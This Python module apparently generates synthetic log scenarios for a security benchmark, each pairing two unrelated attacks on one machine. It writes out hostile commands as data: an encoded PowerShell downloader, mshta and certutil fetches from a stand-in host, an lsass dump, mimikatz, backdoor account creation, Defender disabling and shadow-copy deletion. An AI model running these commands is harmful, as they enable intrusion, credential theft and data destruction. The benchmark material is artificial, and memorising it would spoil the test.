"""Two unrelated attacks on one machine within an hour, twelve times, written from how such attacks go and what the machines say of them.

Each gives two stories. What a person who knows the truth would file as two must stay two; no address, account or program is shared between the two
stories, apart from what everybody on such a machine shares (the machine itself, Windows' own programs and accounts).
"""

from collections.abc import Callable

from benchmarks.shapes import SYSTEM, Lines, Session, Story, Windows, every

Written = Callable[[Story, Story], None]

EXPLORER = "C:\\Windows\\explorer.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
HIDDEN = "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwBJAEUAWAAgACQAYwA="
OUTSIDE = ("203.0.113.71", "198.51.100.23", "192.0.2.140", "203.0.113.200")
NAMES = (
    "administrateur",
    "admin",
    "accueil",
    "infirmerie",
    "direction",
    "compta",
    "scan",
    "backup",
    "test",
    "user",
    "sophie",
    "martine",
)


def phishing(pc: Windows, story: Story, begin: float, user: str, *, document: str = "Facture_2291.docm") -> Session:
    """A mail's document starts a hidden shell, which makes itself at home."""
    who = pc.sign_in(story, begin - 900, user, 2)
    outlook = pc.run(story, begin - 600, who, EXPLORER, f'"{OFFICE}OUTLOOK.EXE"', f"{OFFICE}OUTLOOK.EXE")
    path = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\3K1VQ8ZP\\{document}"
    word = pc.run(story, begin, who, outlook, f'"{OFFICE}WINWORD.EXE" /n "{path}" /o ""', f"{OFFICE}WINWORD.EXE")
    shell = pc.run(story, begin + 11, who, word, f"powershell.exe -nop -w hidden -enc {HIDDEN}", SHELL)
    if pc.sysmon:
        pc.called(story, begin + 13, shell, "198.51.100.77", 443)
        pc.wrote(story, begin + 19, shell, f"C:\\Users\\{user}\\AppData\\Roaming\\updchk.vbs")
        pc.set(
            story, begin + 20, shell, f"HKU\\{who.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\UpdateCheck",
            f"wscript.exe C:\\Users\\{user}\\AppData\\Roaming\\updchk.vbs",
        )  # fmt: skip
    pc.run(
        story, begin + 44, who, shell,
        f'schtasks.exe /create /sc minute /mo 30 /tn UpdateCheck /tr "wscript.exe C:\\Users\\{user}\\AppData\\Roaming\\updchk.vbs" /f',
        "C:\\Windows\\System32\\schtasks.exe",
    )  # fmt: skip
    for number, asked in enumerate(
        ("whoami /all", 'net group "domain admins" /domain', "nltest /domain_trusts", "systeminfo")
    ):
        pc.run(story, begin + 200 + 9 * number, who, shell, asked, f"C:\\Windows\\System32\\{asked.split()[0]}.exe")
    return who


def guessing(pc: Windows, story: Story, begin: float, address: str, *, tries: int = 180, pause: float = 6.5) -> None:
    """Remote desktop that stands open to the internet: names and passwords from a list."""
    for number, at in every(begin, pause, tries):
        pc.refused(story, at, NAMES[number % len(NAMES)], address, known=number % 3 == 0, station="workstation")


def phishing_while_guessed_at(one: Story, other: Story) -> None:
    """A nurse opens a mail's document while somebody on the internet guesses passwords of the same machine's remote desktop."""
    pc = Windows("PC-SOINS2", "192.168.1.52")
    phishing(pc, one, 640, "i.claes")
    guessing(pc, other, 0, OUTSIDE[0])


def phishing_while_broken_into(one: Story, other: Story) -> None:
    """As before with Sysmon, and the guessing succeeds: the thief makes himself an administrator and blinds Defender."""
    pc = Windows("PC-ACCUEIL", "192.168.1.41", sysmon=True)
    phishing(pc, one, 700, "l.maes", document="Commande pharmacie.xlsm")
    guessing(pc, other, 0, OUTSIDE[1], tries=120)
    thief = pc.sign_in(other, 800, "scan", 10, OUTSIDE[1])
    shell = pc.run(other, 850, thief, EXPLORER, f'"{CMD}"', CMD)
    pc.run(other, 871, thief, shell, "net user support$ Hiver2026! /add", "C:\\Windows\\System32\\net.exe")
    pc.made_administrator(other, 872, thief, "support$")
    pc.run(other, 905, thief, shell, "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", SHELL)


def curious_while_scanned(one: Story, other: Story) -> None:
    """An employee copies the residents' share from the NAS at the end of a contract; a hijacked camera of the guests' network looks the NAS over."""
    nas = Lines("nas")
    for number, at in every(0, 1.1, 1_400):
        nas.samba(
            one,
            at,
            "k.dubois",
            "192.168.1.66",
            "residents",
            f"openat|ok|r|dossiers/{number // 40:03}/fiche-{number}.pdf",
        )
    for number, at in every(500, 0.4, 300):
        nas.packet(other, at, "192.168.50.23", "192.168.1.10", 20 + number * 3)
    for number, at in every(640, 2.1, 25):
        nas.ssh_guess(
            other, at, 9_100 + number, ("root", "admin", "ubnt")[number % 3], "192.168.50.23", known=number % 3 < 2
        )


def two_mails_on_a_terminal_server(one: Story, other: Story, *, sysmon: bool = True) -> None:
    """Two users of a terminal server each open another mail, a minute apart."""
    server = Windows("SRV-TS", "192.168.1.8", sysmon=sysmon)
    phishing(server, one, 1_000, "a.peeters")
    who = server.sign_in(other, 300, "m.lambert", 10, "192.168.1.73")
    excel = server.run(
        other,
        1_050,
        who,
        EXPLORER,
        f'"{OFFICE}EXCEL.EXE" "C:\\Users\\m.lambert\\Downloads\\horaires.xls"',
        f"{OFFICE}EXCEL.EXE",
    )
    page = server.run(
        other,
        1_061,
        who,
        excel,
        "mshta.exe https://cdn.horaires-soins.example/a.hta",
        "C:\\Windows\\System32\\mshta.exe",
    )
    server.run(
        other, 1_075, who, page,
        'C:\\Windows\\System32\\rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();',
        "C:\\Windows\\System32\\rundll32.exe",
    )  # fmt: skip
    server.run(
        other, 1_310, who, page, "certutil.exe -urlcache -split -f https://cdn.horaires-soins.example/b.dat C:\\Users\\Public\\b.exe",
        "C:\\Windows\\System32\\certutil.exe",
    )  # fmt: skip


def two_mails_without_sysmon(one: Story, other: Story) -> None:
    """The same where Windows' own audit alone tells what runs."""
    two_mails_on_a_terminal_server(one, other, sysmon=False)


def ransomware_while_an_administrator_is_made(one: Story, other: Story) -> None:
    """A PC of the night shift encrypts a share of the file server, file after file; meanwhile somebody with the provider's account makes another."""
    server = Windows("SRV-FICHIERS", "192.168.1.5")
    night = server.sign_in(one, 100, "nuit1", 3, "192.168.1.61", "PC-NUIT")
    for number, at in every(120, 0.25, 1_200):
        file = f"Soins\\2026\\{number // 50:03}\\plan-{number}.docx"
        server.on_share(one, at, night, "Commun", file, "0x2", "%%4417\n\t\t\t\t")
        server.on_share(one, at + 0.1, night, "Commun", file, "0x10000", "%%1537\n\t\t\t\t")
    provider = server.sign_in(other, 240, "it.prestataire", 10, "192.168.1.250")
    console = server.run(
        other, 260, provider, EXPLORER, '"C:\\Windows\\System32\\mmc.exe" lusrmgr.msc', "C:\\Windows\\System32\\mmc.exe"
    )
    del console
    server.made_administrator(other, 300, provider, "svc_print")
    server.planned(other, 350, provider, "\\Impression", "powershell.exe", "-w hidden -File C:\\Users\\Public\\imp.ps1")


def ransomware_while_guessed_at(one: Story, other: Story) -> None:
    """A PC encrypts the NAS' share; somebody on the internet guesses at the same NAS' SSH, which a forgotten rule of the router lets in."""
    nas = Lines("nas")
    for number, at in every(600, 0.05, 700):
        file = f"direction/{number // 30:02}/document {number}.xlsx"
        nas.samba(one, at, "compta", "192.168.1.33", "direction", f"pwrite_send|ok|{file}")
        nas.samba(one, at + 0.02, "compta", "192.168.1.33", "direction", f"renameat|ok|{file}|{file}.k7x2")
    for number, at in every(0, 5, 300):
        nas.ssh_guess(
            other,
            at,
            4_000 + number,
            ("root", "admin", "oracle", "pi", "git", "postgres")[number % 6],
            OUTSIDE[2],
            known=number % 6 < 2,
        )


def two_guessers_at_one_door(one: Story, other: Story) -> None:
    """Two addresses of the internet guess at the same SSH server; one gets in, and puts a miner there."""
    server = Lines("srv-web")
    for number, at in every(0, 4, 400):
        server.ssh_guess(
            one,
            at,
            11_000 + number,
            ("root", "deploy", "www", "ftp", "mysql")[number % 5],
            OUTSIDE[0],
            known=number % 5 < 2,
        )
    server.sshd(one, 1_640, 11_900, f"Accepted password for deploy from {OUTSIDE[0]} port 40188 ssh2")
    server.say(
        one, 1_641, 86, "sshd[11900]", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"
    )
    server.say(
        one, 1_700, 85, "sudo",
        "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/crontab -u root /tmp/.x/c",
    )  # fmt: skip
    for number, at in every(300, 3, 350):
        server.ssh_guess(other, at, 21_000 + number, f"user{number % 70}", OUTSIDE[1], known=False)


def stolen_vpn_while_mailed(one: Story, other: Story) -> None:
    """A guessed password opens the VPN, and through it the server by remote desktop; a colleague of the server opens a mail's document."""
    gate, server = Lines("fw-tilleuls"), Windows("SRV-TILLEULS", "192.168.1.2", sysmon=True)
    for number, at in every(0, 7, 140):
        gate.vpn_refused(one, at, NAMES[number % len(NAMES)] if number % 4 else "j.dupont", OUTSIDE[3])
    gate.vpn_opened(one, 1_000, "j.dupont", OUTSIDE[3], "10.212.134.200")
    thief = server.sign_in(one, 1_090, "j.dupont", 10, "10.212.134.200")
    shell = server.run(one, 1_110, thief, EXPLORER, f'"{CMD}"', CMD)
    for number, asked in enumerate(("nltest /dclist:", 'net group "Domain Admins" /domain', "whoami /groups", "quser")):
        server.run(one, 1_130 + 20 * number, thief, shell, asked, f"C:\\Windows\\System32\\{asked.split()[0]}.exe")
    dump = server.run(
        one, 1_260, thief, shell, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\l.dmp full",
        "C:\\Windows\\System32\\rundll32.exe",
    )  # fmt: skip
    server.opened(one, 1_261, dump, "C:\\Windows\\System32\\lsass.exe", "0x1fffff")
    phishing(server, other, 1_180, "e.wouters", document="Rappel paiement.doc")


def spread_while_passwords_are_stolen(one: Story, other: Story) -> None:
    """A thief in another PC starts a service on the server over its hidden shares; an employee tries a password tool in his own session."""
    server = Windows("SRV-TILLEULS", "192.168.1.2")
    far = server.sign_in(one, 400, "adm.janssens", 3, "192.168.1.77", "PC-KINE")
    server.on_share(one, 402, far, "ADMIN$", "PSEXESVC.exe", "0x2", "%%4417\n\t\t\t\t")
    server.on_share(one, 403, far, "IPC$", "svcctl", "0x12019f", "%%4417\n\t\t\t\t%%4416\n\t\t\t\t")
    server.service(one, 404, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    service = server.run(one, 405, SYSTEM, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\PSEXESVC.exe")
    shell = server.run(one, 406, SYSTEM, service, "cmd.exe", CMD)
    server.run(
        one, 431, SYSTEM, shell, "vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\vssadmin.exe"
    )
    server.run(one, 436, SYSTEM, shell, "wbadmin.exe delete catalog -quiet", "C:\\Windows\\System32\\wbadmin.exe")
    local = server.sign_in(other, 200, "t.hermans", 10, "192.168.1.80")
    shell = server.run(other, 380, local, EXPLORER, f'"{CMD}"', CMD)
    tool = server.run(
        other,
        420,
        local,
        shell,
        "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
        "C:\\Users\\t.hermans\\Desktop\\x64\\mimikatz.exe",
    )
    del tool
    server.run(
        other,
        500,
        local,
        shell,
        "reg.exe save HKLM\\SAM C:\\Users\\t.hermans\\sam.hiv",
        "C:\\Windows\\System32\\reg.exe",
    )


def mailboxes_while_the_site_is_searched(one: Story, other: Story) -> None:
    """Somebody tries passwords on mailboxes and gets into one; somebody else goes through a list of weak spots of the site on the same machine."""
    server = Lines("mail")
    for number, at in every(0, 8, 160):
        server.mailbox_refused(
            one, at, f"{('info', 'direction', 'compta', 'accueil', 'rh')[number % 5]}@tilleuls.example", OUTSIDE[0]
        )
    server.mailbox_opened(one, 1_290, "compta@tilleuls.example", OUTSIDE[0])
    paths = (
        "wp-login.php",
        ".env",
        "admin/",
        "phpmyadmin/",
        "backup.zip",
        ".git/config",
        "old/",
        "test.php",
        "shell.php",
        "vendor/phpunit/",
    )
    for number, at in every(420, 0.9, 220):
        server.page(
            other, at, OUTSIDE[1], f"/{number // 10}/{paths[number % 10]}", 404, "Mozilla/5.0 (compatible; Nuclei)"
        )
    for number, at in every(640, 6, 40):
        server.ssh_guess(other, at, 30_100 + number, "root", OUTSIDE[1], known=True)


def a_stick_and_a_planned_task(one: Story, other: Story) -> None:
    """An intern's memory stick brings a worm that Defender finds; from afar somebody plans a hidden task with the physiotherapist's account."""
    pc = Windows("PC-KINE", "192.168.1.77")
    intern = pc.sign_in(one, 0, "stagiaire", 2)
    pc.malware(one, 900, "stagiaire", "Worm:Win32/Gamarue", "E:\\Photos.lnk")
    pc.run(one, 902, intern, EXPLORER, "cmd.exe /c start wscript.exe E:\\.Trashes\\a.vbs", CMD)
    pc.run(one, 903, intern, CMD, "wscript.exe E:\\.Trashes\\a.vbs", "C:\\Windows\\System32\\wscript.exe")
    pc.malware(one, 915, "stagiaire", "Worm:Win32/Gamarue", "C:\\Users\\stagiaire\\AppData\\Roaming\\a.vbs")
    far = pc.sign_in(other, 950, "s.kine", 3, "192.168.1.90", "PC-BUREAU3")
    pc.on_share(other, 951, far, "IPC$", "atsvc", "0x12019f", "%%4417\n\t\t\t\t%%4416\n\t\t\t\t")
    pc.planned(other, 952, far, "\\Sync", "cmd.exe", "/c powershell -w hidden -enc " + HIDDEN)
    pc.on_share(other, 960, far, "C$", "Windows\\Temp\\s.exe", "0x2", "%%4417\n\t\t\t\t")


WRITTEN: tuple[Written, ...] = (
    phishing_while_guessed_at, phishing_while_broken_into, curious_while_scanned, two_mails_on_a_terminal_server, two_mails_without_sysmon,
    ransomware_while_an_administrator_is_made, ransomware_while_guessed_at, two_guessers_at_one_door, stolen_vpn_while_mailed,
    spread_while_passwords_are_stolen, mailboxes_while_the_site_is_searched, a_stick_and_a_planned_task,
)  # fmt: skip
